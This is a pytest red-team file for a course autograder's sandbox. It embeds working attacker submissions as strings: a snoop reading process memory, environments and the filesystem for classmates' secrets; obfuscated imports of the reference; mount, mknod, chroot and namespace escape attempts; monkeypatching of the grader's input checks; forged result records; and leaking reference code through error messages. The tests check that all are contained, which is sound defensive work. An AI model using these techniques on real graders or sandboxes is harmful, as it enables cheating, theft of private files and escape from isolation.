"""Red team, reaching what a submission must not see: the reference, classmates, the instructor's
files, the grader's own state. One grading run of a class of two honest students and the attackers.

Each attacker writes a correct answer for every part and, in batch_gradient, first goes looking:
when the loot is found the part raises ``RuntimeError("LEAK ...")`` with what was found (so the
attacker loses exactly that part's 2 points and the feedback says how); when the sandbox holds,
the attacker earns full marks like anyone with correct code. The reference hunter has no answer of
its own: it earns batch_gradient's points only if it gets hold of bpteach.
"""

from __future__ import annotations

import pytest
from grading_attacks import (
    FULL,
    HONEST_BATCH,
    assert_contained,
    grade_class,
    honest,
    needs_bwrap,
    new_course,
    probe,
    with_cells,
)

pytestmark = needs_bwrap

# Look everywhere a sandboxed process can look, for a classmate's secret, the instructor's, the
# reference's source or the grader's expected answers; 2 s at most.
SNOOP = probe(
    """
import gc, re

_LOOT = re.compile(rb"(CLASSMATE|INSTRUCTOR)-SECRET-[0-9a-f]{8}|derivative_from_value\\(|EXERCISE = Exercise\\(")
_REF_FILE = re.compile(r"bpteach/(activations|grading/(ex0\\d_\\w+|spec|judge|check))\\.py$$")
_found = []


def _look(what, data):
    if isinstance(data, str):
        data = data.encode("utf-8", "replace")
    m = _LOOT.search(data)
    if m and len(_found) < 8:
        _found.append(f"{what}: {m.group(0)[:40]!r}")


def _read(path, limit=2_000_000):
    try:
        with open(path, "rb") as f:
            _look(path, f.read(limit))
    except (OSError, ValueError):
        pass
    if isinstance(path, str) and _REF_FILE.search(path) and os.access(path, os.R_OK):
        _found.append(f"reference file readable: {path}")


def _paths_in(text):
    return re.findall(r"/[\\w./@+-]{2,}", text)


def _probe():
    t0 = time.monotonic()
    late = lambda: time.monotonic() - t0 > 2.0
    targets = [$classmate, $secret, $grades_csv, $grades_json, $reference, $spec, $cls, $root]
    for p in targets:
        _read(p)
        if os.path.isdir(p):
            for name in os.listdir(p):
                _read(os.path.join(p, name))
    # what the processes in view tell about paths: command lines, environments, mounts, maps
    texts = []
    pids = [p for p in os.listdir("/proc") if p.isdigit()] if os.path.isdir("/proc") else []
    for pid in pids:
        for what in ("cmdline", "environ", "maps", "mountinfo"):
            try:
                with open(f"/proc/{pid}/{what}", "rb") as f:
                    data = f.read(1_000_000)
            except OSError:
                continue
            _look(f"/proc/{pid}/{what}", data)
            texts.append(data.replace(b"\\0", b"\\n").decode("utf-8", "replace"))
        for link in ("cwd", "root"):
            try:
                base = f"/proc/{pid}/{link}"
                for t in targets:
                    _read(base + t)
                texts.append(os.readlink(base))
            except OSError:
                pass
        # memory of the other processes in the sandbox (a zygote, a harness) and our own
        try:
            maps = open(f"/proc/{pid}/maps").read().splitlines()
            with open(f"/proc/{pid}/mem", "rb", buffering=0) as mem:
                budget = 256 * 2**20
                for line in maps:
                    lo, hi = (int(x, 16) for x in line.split()[0].split("-"))
                    if "r" not in line.split()[1] or hi - lo > budget or late():
                        continue
                    budget -= hi - lo
                    try:
                        mem.seek(lo)
                        _look(f"memory of pid {pid} {line.split()[-1]}", mem.read(hi - lo))
                    except (OSError, ValueError, OverflowError):
                        pass
        except OSError:
            pass
        if late():
            break
    seen = set()
    for text in texts + list(sys.path) + list(os.environ.values()):
        for p in _paths_in(text):
            if p not in seen and len(seen) < 3000 and not p.startswith(("/proc", "/sys", "/dev")):
                seen.add(p)
                _read(p, 200_000)
                if _REF_FILE.search(p) is None and os.path.isdir(p) and "bpteach" in p:
                    _found.append(f"a bpteach folder is visible: {p}")
    # the file system, as far as it goes in the time
    count = 0
    for dirpath, dirnames, filenames in os.walk("/"):
        dirnames[:] = [d for d in dirnames if f"{dirpath.rstrip('/')}/{d}" not in ("/proc", "/sys", "/dev")]
        for name in filenames:
            count += 1
            p = os.path.join(dirpath, name)
            if name.endswith((".ipynb", ".csv", ".txt", ".json")) or _REF_FILE.search(p):
                _read(p, 200_000)
        if late() or count > 60_000:
            break
    # inherited descriptors: files, directories (an openat escape) and pipes
    for fd in range(3, 256):
        try:
            st = os.fstat(fd)
        except OSError:
            continue
        try:
            target = os.readlink(f"/proc/self/fd/{fd}")
        except OSError:
            target = "?"
        import stat as S
        if S.S_ISDIR(st.st_mode):
            _found.append(f"an open directory fd {fd} -> {target}: {os.listdir(fd)[:5]}")
        elif S.S_ISREG(st.st_mode):
            try:
                _look(f"fd {fd} -> {target}", os.pread(fd, 2_000_000, 0))
            except OSError:
                pass
    # the grader's own objects: a frame or an object holding the expected answers or the reference
    f = sys._getframe()
    while f is not None:
        for k in f.f_locals:
            if isinstance(k, str) and re.search("expect|reference|answer|battery", k, re.I):
                _found.append(f"frame {f.f_code.co_name} holds {k!r}")
        f = f.f_back
    for name in list(sys.modules):
        if name.startswith("bpteach") and not name.startswith("bpteach.grading._"):
            _found.append(f"module {name} is loaded")
    for o in gc.get_objects():
        if isinstance(o, dict) and any(isinstance(k, str) and k in ("expected", "reference") for k in o):
            _found.append(f"an object with keys {sorted(map(str, o))[:6]}")
            break
    return _found
"""
)

# Every way to get bpteach's sigmoid without writing "import bpteach": only with it is the answer right.
REFERENCE_HUNTER = """
import base64, importlib, importlib.util, os, pickle, runpy, sys


def _load(spec):
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


def _find_file(name):
    for root, dirs, files in os.walk("/"):
        dirs[:] = [d for d in dirs if d not in ("proc", "sys", "dev")] if root.count("/") < 7 else []
        if os.path.basename(root) == name and "activations.py" in files:
            path = os.path.join(root, "activations.py")
            return importlib.util.spec_from_file_location(name + ".activations", path)
    return None


def _reference_sigmoid():
    name = "bp" + "teach"
    attempts = [
        lambda: importlib.import_module(name + ".activations").sigmoid,
        lambda: __import__(name + ".activations", fromlist=["x"]).sigmoid,
        lambda: pickle.loads(b"c" + name.encode() + b".activations\\nsigmoid\\n."),
        lambda: runpy.run_module(name + ".activations")["sigmoid"],
        lambda: runpy.run_path($reference)["sigmoid"],
        lambda: eval(base64.b64decode(b"X19pbXBvcnRfXygnYnB0ZWFjaC5hY3RpdmF0aW9ucycsIGZyb21saXN0PVsneCddKS5zaWdtb2lk")),
    ]
    for extra in ($package + "/..", $site, "/work", "/usr/lib/python3/dist-packages"):
        attempts.append(lambda extra=extra: (sys.path.insert(0, extra), importlib.invalidate_caches(),
                                             importlib.import_module(name + ".activations").sigmoid)[-1])
    attempts.append(lambda: _load(_find_file(name)).sigmoid)
    for attempt in attempts:
        try:
            s = attempt()
            if callable(s):
                return s
        except Exception:
            continue
    return None


_found = []


def batch_gradient(w, X, y):
    if not _found:
        _found.append(_reference_sigmoid())
    s = _found[0]
    if s is None:
        raise ImportError("the reference is out of reach")
    z = w @ X
    return X @ ((s(z) - y) * s(z) * (1.0 - s(z))) / X.shape[1]
"""

# Root in the sandbox (the grader often runs as root in a container or CI): capabilities would let
# a submission remount the read-only views writable, or build device nodes, and write the host's files.
MOUNT_ESCAPE = probe(
    """
import ctypes

_libc = ctypes.CDLL(None, use_errno=True)
MS_RDONLY, MS_REMOUNT, MS_BIND = 1, 32, 4096


def _probe():
    done = []
    try:
        points = [line.split()[4] for line in open("/proc/self/mountinfo")]
    except OSError:
        points = ["/", *("/" + d for d in os.listdir("/"))]
    points = [p for p in points if os.path.isdir(p) and os.statvfs(p).f_flag & os.ST_RDONLY]  # read-only views
    for p in points:
        if _libc.mount(None, p.encode(), None, MS_REMOUNT | MS_BIND, None) == 0:
            done.append(f"remounted {p} writable")
    for target in ($classmate, $grades_csv, $reference, $spec):
        for base in ("", "/proc/1/root", "/proc/self/root"):
            try:
                with open(base + target, "a") as f:
                    f.write("# written by an attacker\\n")
                done.append(f"wrote {base + target}")
            except OSError:
                pass
    try:
        os.mknod("/tmp/disk", 0o600 | 0o060000, os.makedev(8, 0))
        with open("/tmp/disk", "rb") as f:
            f.read(512)
        done.append("read a raw disk through mknod")
    except OSError:
        pass
    try:
        os.mkdir("/tmp/jail")
        os.chroot("/tmp/jail")
        for _ in range(64):
            os.chdir("..")
        os.chroot(".")
        if os.path.exists($secret):
            done.append("left the sandbox's root with chroot")
    except OSError:
        pass
    # a fresh user and mount namespace gives every capability there: can it uncover what is hidden?
    r, w = os.pipe()
    if os.fork() == 0:
        got = []
        if _libc.unshare(0x10000000 | 0x00020000) == 0:
            for p in ("/proc", "/tmp", "/"):
                if _libc.umount2(p.encode(), 2) == 0:
                    got.append(f"unmounted {p} in a new namespace")
            for p in points:
                if _libc.mount(None, p.encode(), None, MS_REMOUNT | MS_BIND, None) == 0:
                    try:
                        open(os.path.join(p, ".w"), "w").close()
                        got.append(f"wrote into {p} after a remount in a new namespace")
                    except OSError:
                        pass
        os.write(w, "; ".join(got).encode()[:4000])
        os._exit(0)
    os.close(w)
    nested = os.read(r, 4000).decode()
    os.wait()
    if nested:
        done.append(nested)
    return done
"""
)

# The in-sandbox code that checks "the function did not change its input" uses copy and numpy: a
# cell that rebinds them (and builtins) would let a function that ruins its input keep the points.
REBIND_HARNESS = (
    """
import builtins, copy, json
"""
    + HONEST_BATCH
    + """
copy.deepcopy = lambda x, memo=None: x
copy.copy = lambda x: x
np.array_equal = lambda *a, **k: True
np.copy = lambda a, *x, **k: a
_real_isinstance = builtins.isinstance
builtins.id = lambda x: 0


def batch_gradient(w, X, y):
    g = _honest_batch(w, X, y)
    X *= 0.0  # the answer is right, but the caller's X is ruined
    w *= 0.0
    return g
"""
)

# The same gain by writing to the result pipe: on the first call, the record of every input (right
# answers, "mutated": []) goes out before the runner's own; then the function ruins its input.
FORGE_RECORD = (
    """
import json, os, sys
"""
    + HONEST_BATCH
    + """
_sent = []


def _forge():
    f = sys._getframe(2)
    while f is not None and not ("part" in f.f_locals and "self" in f.f_locals):
        f = f.f_back
    if f is None:
        return False  # not called by the runner's part loop (e.g. by the notebook's demo cell)
    part, fd = f.f_locals["part"], f.f_locals["self"].fd
    results = []
    for case in part["cases"]:
        g = np.asarray(_honest_batch(*case), dtype=float)
        results.append({"items": [{"shape": list(g.shape), "data": g.ravel().tolist()}], "mutated": []})
    record = {"part": part["id"], "calls": [], "results": results}
    os.write(fd, (json.dumps(record) + "\\n").encode())
    return True


def batch_gradient(w, X, y):
    try:
        if not _sent and _forge():
            _sent.append(1)
    except Exception:
        pass
    g = _honest_batch(w, X, y)
    X *= 0.0
    return g
"""
)

# A part that fails on purpose, so that the next part is graded with the reference in its place:
# whatever of the reference is then within reach (its source, its code) goes out in an error message.
REFERENCE_EXFIL = {
    "sigmoid": """
def sigmoid(z):
    return np.zeros_like(np.asarray(z, dtype=float))
""",
    "sigmoid_derivative": """
import dis, gc, io, sys


def _loot():
    found = []
    for o in gc.get_objects():
        if isinstance(o, dict) and o.get("reference_cells"):
            found.append(f"reference_cells: {str(o['reference_cells'])[:300]}")
        elif type(o).__name__ == "function" and "reference" in o.__code__.co_filename:
            out = io.StringIO()
            dis.dis(o, file=out)
            found.append(f"code of {o.__name__}: " + " ".join(out.getvalue().split())[:300])
    return found


def sigmoid_derivative(z):
    found = _loot()
    if found:
        raise RuntimeError("REFERENCE " + " || ".join(found))
    s = sigmoid(z)
    return s * (1.0 - s)
""",
}

# A part that fails on purpose makes the grader run the later parts again with references in the
# student's process. A thief writes none of the hard parts: each calls the failed sigmoid (so it is
# graded again) and returns what the reference of its own part, if it is within reach, returns.
THIEF = """
import gc


def _reference(name):
    for o in gc.get_objects():
        if isinstance(o, dict) and o.get("__name__") == "__reference__" and callable(o.get(name)):
            return o[name]
    raise NotImplementedError("not written")


def {func}(*args):
    sigmoid(np.zeros(1))  # calls the earlier part that failed
    return _reference("{func}")(*args)
"""
WRONG_SIGMOID = "def sigmoid(z):\n    return np.zeros_like(np.asarray(z, dtype=float))\n"
HEIST = {
    "sigmoid": WRONG_SIGMOID,
    **{f: THIEF.format(func=f) for f in ("unit_gradient", "batch_gradient", "logloss_gradient", "tanh_derivative")},
}
# the same with a second culprit late in the notebook, so that references up to it are sent
HEIST_LATE_CULPRIT = {
    "sigmoid": WRONG_SIGMOID,
    **{f: THIEF.format(func=f) for f in ("unit_gradient", "batch_gradient")},
    "logloss_gradient": "def logloss_gradient(w, b, x, t):\n    raise NotImplementedError\n",
    "tanh_derivative": "def tanh_derivative(z):\n    return logloss_gradient(z, 0.0, z, z)\n",
}


@pytest.fixture(scope="module")
def run(tmp_path_factory):
    course = new_course(tmp_path_factory.mktemp("reach"))
    subs = {
        "classmate1.ipynb": honest(),
        "snoop.ipynb": with_cells(batch_gradient=course.code(SNOOP)),
        "reference_hunter.ipynb": with_cells(batch_gradient=course.code(REFERENCE_HUNTER)),
        "mount_escape.ipynb": with_cells(batch_gradient=course.code(MOUNT_ESCAPE)),
        "rebind_harness.ipynb": with_cells(batch_gradient=course.code(REBIND_HARNESS)),
        "forge_record.ipynb": with_cells(batch_gradient=FORGE_RECORD),
        "reference_exfil.ipynb": with_cells(**REFERENCE_EXFIL),
        "heist.ipynb": with_cells(**HEIST),
        "heist_late_culprit.ipynb": with_cells(**HEIST_LATE_CULPRIT),
        "classmate2.ipynb": honest(),
    }
    return grade_class(course, subs, timeout=8.0)


def test_the_run_is_contained(run):
    assert_contained(run, 10)


def test_honest_classmates_get_full_marks(run):
    assert run.points["classmate1.ipynb"] == FULL
    assert run.points["classmate2.ipynb"] == FULL


@pytest.mark.parametrize("attacker", ["snoop", "mount_escape"])
def test_a_snoop_finds_nothing_and_keeps_the_points_of_its_correct_code(run, attacker):
    assert "LEAK" not in run.text(f"{attacker}.ipynb"), run.text(f"{attacker}.ipynb")
    assert run.points[f"{attacker}.ipynb"] == FULL


def test_the_reference_is_out_of_reach_however_it_is_imported(run):
    assert run.points["reference_hunter.ipynb"] == {**FULL, "ex02_batch_gradient": 0.0}
    assert "the reference is out of reach" in run.text("reference_hunter.ipynb")


@pytest.mark.parametrize("attacker", ["rebind_harness", "forge_record"])
def test_rebinding_the_harness_or_forging_its_record_does_not_hide_a_changed_input(run, attacker):
    assert run.points[f"{attacker}.ipynb"] == {**FULL, "ex02_batch_gradient": 0.0}
    assert "changed its input" in run.text(f"{attacker}.ipynb")


def test_a_part_graded_with_the_reference_in_place_cannot_read_it(run):
    # sigmoid is wrong (0 points); sigmoid_derivative, graded with the reference sigmoid standing
    # in, is right as long as it finds nothing of the reference to send back
    text = run.text("reference_exfil.ipynb")
    assert "REFERENCE" not in text, text
    assert run.points["reference_exfil.ipynb"] == {**FULL, "ex02_sigmoid": 0.0}


@pytest.mark.parametrize("attacker", ["heist", "heist_late_culprit"])
def test_a_part_graded_again_cannot_return_its_own_reference(run, attacker):
    # earned: sigmoid_derivative and unit_output, right once the reference sigmoid stands in;
    # nothing for the parts that only call the reference of themselves
    earned = {"ex02_sigmoid_derivative", "ex02_unit_output"}
    assert run.points[f"{attacker}.ipynb"] == {g: (p if g in earned else 0.0) for g, p in FULL.items()}
